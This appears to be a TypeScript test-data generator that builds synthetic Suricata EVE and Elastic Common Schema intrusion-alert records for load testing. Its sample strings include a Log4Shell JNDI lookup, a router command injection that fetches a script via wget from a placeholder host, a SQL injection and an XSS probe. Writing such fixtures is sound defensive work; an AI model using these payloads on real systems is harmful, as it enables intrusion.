import type { MadeEvent, Scene } from './scene';

/** Of ten sensors so many write documents of the Elastic Common Schema, the others Suricata's EVE. */
const ECS_SENSORS_OF_TEN = 4;
/** Of ten sensors so many escape whatever is not ASCII, as some JSON writers do. */
const ASCII_SENSORS_OF_TEN = 3;
/** Of a thousand records so many are no threat. */
const ORDINARY = 20;
const TAIPEI_MS = 8 * 3_600_000;

const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'python-requests/2.32.3',
  '$%7Bjndi:ldap://198.51.100.7:1389/a} "quoted" \\back\\slash',
];
const BODIES = [
  'POST /cgi-bin/luci/;stok=/locale HTTP/1.1\r\nHost: www.example.gov.tw\r\nContent-Type: application/json\r\n\r\n' +
    '{"form":"country","operation":"write","country":"$(id>`wget http://198.51.100.9/x.sh`)","note":"\\u4e2d\\u6587"}',
  'GET /list?id=1%27%20union%20select%201,2,3-- HTTP/1.1\r\nHost: opendata.example.gov.tw\r\nUser-Agent: "x"\r\n' +
    'Cookie: PHPSESSID=3f2a; path=/; note="中文說明，含「引號」"\r\nAccept: */*\r\n\r\n',
  '\u0000\u0000\u0000\u0085\u00ffSMBr\u0000\u0000\u0000\u0000\u0018S\u00c8\u0000\u0000\u0000PC NETWORK PROGRAM 1.0\u0000\u0002' +
    'LANMAN1.0\u0000\u0002Windows for Workgroups 3.1a\u0000\u0002LM1.2X002\u0000\u0002LANMAN2.1\u0000\u0002NT LM 0.12\u0000',
];
const BODY_BYTES = 420;

/** One line of the nested load: about 2 KB, five levels deep at most, with escapes where sensors write them. */
export function nestedLine(event: MadeEvent, scene: Scene): string {
  const kind = digitOf(event.sensor);
  const isOrdinary = scene.below(1_000) < ORDINARY;
  const document = kind < ECS_SENSORS_OF_TEN ? ecs(event, scene, isOrdinary) : eve(event, scene, isOrdinary);
  const text = JSON.stringify(document);
  return kind % 10 >= 10 - ASCII_SENSORS_OF_TEN || kind === 0 ? inAscii(text) : text;
}

function eve(event: MadeEvent, scene: Scene, isOrdinary: boolean): object {
  const { rule, source, destination } = event;
  const time = new Date(event.time + TAIPEI_MS).toISOString().replace('Z', '000+0800');
  const body = bodyOf(scene);
  return {
    timestamp: time,
    flow_id: 1_000_000_000_000_000 + event.number * 7,
    in_iface: 'eth1',
    event_type: isOrdinary ? 'http' : 'alert',
    src_ip: source.ip,
    src_port: source.port,
    dest_ip: destination.ip,
    dest_port: destination.port,
    proto: 'TCP',
    pkt_src: 'wire/pcap',
    metadata: { flowbits: ['http.dottedquadhost', 'LF.formdata'], flowints: { 'applayer.anomaly.count': 1 } },
    community_id: `1:${Buffer.from(String(event.number * 7_919)).toString('base64')}=`,
    tx_id: 0,
    ...(!isOrdinary && {
      alert: {
        action: event.action,
        gid: 1,
        signature_id: rule.id,
        rev: 26,
        signature: rule.name,
        category: rule.className,
        severity: rule.priority,
        metadata: {
          affected_product: ['Web_Server_Applications'],
          attack_target: ['Server'],
          created_at: ['2015_02_10'],
          deployment: ['Perimeter', 'SSLDecrypt'],
          signature_severity: [rule.priority === 1 ? 'Major' : 'Minor'],
          tag: ['說明: "測試"'],
        },
      },
    }),
    app_proto: destination.port === 443 ? 'tls' : 'http',
    ...applicationOf(event, scene, body),
    flow: {
      pkts_toserver: 4 + scene.below(30),
      pkts_toclient: 3 + scene.below(30),
      bytes_toserver: 700 + scene.below(9_000),
      bytes_toclient: 500 + scene.below(90_000),
      start: time,
      src_ip: source.ip,
      dest_ip: destination.ip,
      src_port: source.port,
      dest_port: destination.port,
    },
    direction: 'to_server',
    payload_printable: body,
    stream: 1,
    packet_info: { linktype: 1, linktype_name: 'ETHERNET' },
    host: event.sensor,
  };
}

function applicationOf({ destination, sensor }: MadeEvent, scene: Scene, body: string): object {
  if (destination.port === 443) {
    return {
      tls: {
        subject: `C=TW, L=臺北市, O=示範機關 "${sensor}", CN=www.${sensor}.example`,
        issuerdn: 'C=TW, O=行政院, CN=政府伺服器數位憑證管理中心 - G2',
        serial: '6A:F9:03:99:3B:23:5B:C2:7F:11',
        fingerprint: '9e:21:13:aa:5f:cd:3c:b1:60:fd:ba:ad:0c:53:87:a6:6c:01:d5:9a',
        sni: `www.${sensor}.example`,
        version: 'TLS 1.2',
        notbefore: '2026-01-01T00:00:00',
        notafter: '2027-01-01T23:59:59',
        ja3: {
          hash: '6734f37431670b3ab4292b8f60f29984',
          string: '771,4865-4866-4867-49195-49199,0-23-65281-10-11,29-23-24,0',
        },
      },
    };
  }
  return {
    http: {
      hostname: `www.${sensor}.example`,
      url: `/search?q=%3Cscript%3E&page="${scene.below(900)}"&path=C:\\inetpub\\wwwroot`,
      http_user_agent: AGENTS[scene.below(AGENTS.length)],
      http_content_type: 'text/html',
      http_refer: 'https://www.example.gov.tw/查詢?x="1"',
      http_method: 'GET',
      protocol: 'HTTP/1.1',
      status: 403,
      length: 1_200 + scene.below(4_000),
      http_request_body_printable: body.slice(0, 160),
    },
  };
}

function ecs(event: MadeEvent, scene: Scene, isOrdinary: boolean): object {
  const { rule, source, destination, action } = event;
  const time = new Date(event.time).toISOString();
  const agent = AGENTS[scene.below(AGENTS.length)];
  return {
    '@timestamp': time,
    ecs: { version: '8.17.0' },
    agent: {
      type: 'filebeat',
      version: '9.2.0',
      id: '7d1f4e6a-2b4c-4f6e-9d0e-0a1b2c3d4e5f',
      name: `fb-${event.sensor}`,
    },
    event: {
      id: `e-${event.number}`,
      kind: isOrdinary ? 'metric' : 'alert',
      category: ['intrusion_detection', 'network'],
      type: [action === 'blocked' ? 'denied' : 'allowed'],
      action,
      severity: { 1: 73, 2: 47, 3: 21 }[rule.priority],
      module: 'ips',
      dataset: 'ips.alert',
      created: time,
      original: `<134>1 ${time} gw ips - - [x@1 name="${rule.name.replaceAll('"', '\\"')}" note="${bodyOf(scene)}"]`,
    },
    source: {
      ip: source.ip,
      port: source.port,
      geo: { country_iso_code: 'ZZ', continent_name: 'Asia', location: { lat: 25.04, lon: 121.51 } },
      as: { number: 64_496, organization: { name: 'Example "Networks" Ltd. 範例' } },
    },
    destination: { ip: destination.ip, port: destination.port, domain: `www.${event.sensor}.example` },
    network: {
      transport: 'tcp',
      type: 'ipv4',
      protocol: 'http',
      direction: 'inbound',
      bytes: 1_000 + scene.below(9_000),
    },
    rule: { id: String(rule.id), name: rule.name, category: rule.className, ruleset: 'LF', version: '26' },
    http: {
      request: { method: 'POST', referrer: 'https://www.example.gov.tw/"x"', body: { bytes: 160 } },
      version: '1.1',
    },
    url: { original: `/search?q="${scene.below(900)}"\\n`, path: '/search', domain: `www.${event.sensor}.example` },
    user_agent: { original: agent, name: 'Other', device: { name: 'Spider' } },
    related: { ip: [source.ip, destination.ip], hosts: [`www.${event.sensor}.example`] },
    tags: ['forwarded', '轉送', 'beats_input_codec_plain_applied'],
    message: `${rule.name}: ${source.ip}:${source.port} -> ${destination.ip}:${destination.port}\t(${action})`,
    observer: { vendor: 'Lianfang', product: 'IPS', type: 'ips', version: '1.0', name: event.sensor },
  };
}

function bodyOf(scene: Scene): string {
  const body = BODIES[scene.below(BODIES.length)] ?? '';
  return `${body}${'A'.repeat(40)}%${scene.below(1_000_000)}`.slice(0, BODY_BYTES);
}

function digitOf(sensor: string): number {
  let sum = 0;
  for (let at = 0; at < sensor.length; at += 1) sum += sensor.charCodeAt(at);
  return sum % 10;
}

/** Each UTF-16 unit as `\uXXXX`. */
function inAscii(text: string): string {
  return text.replace(/[\u0080-\uffff]/g, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`);
}
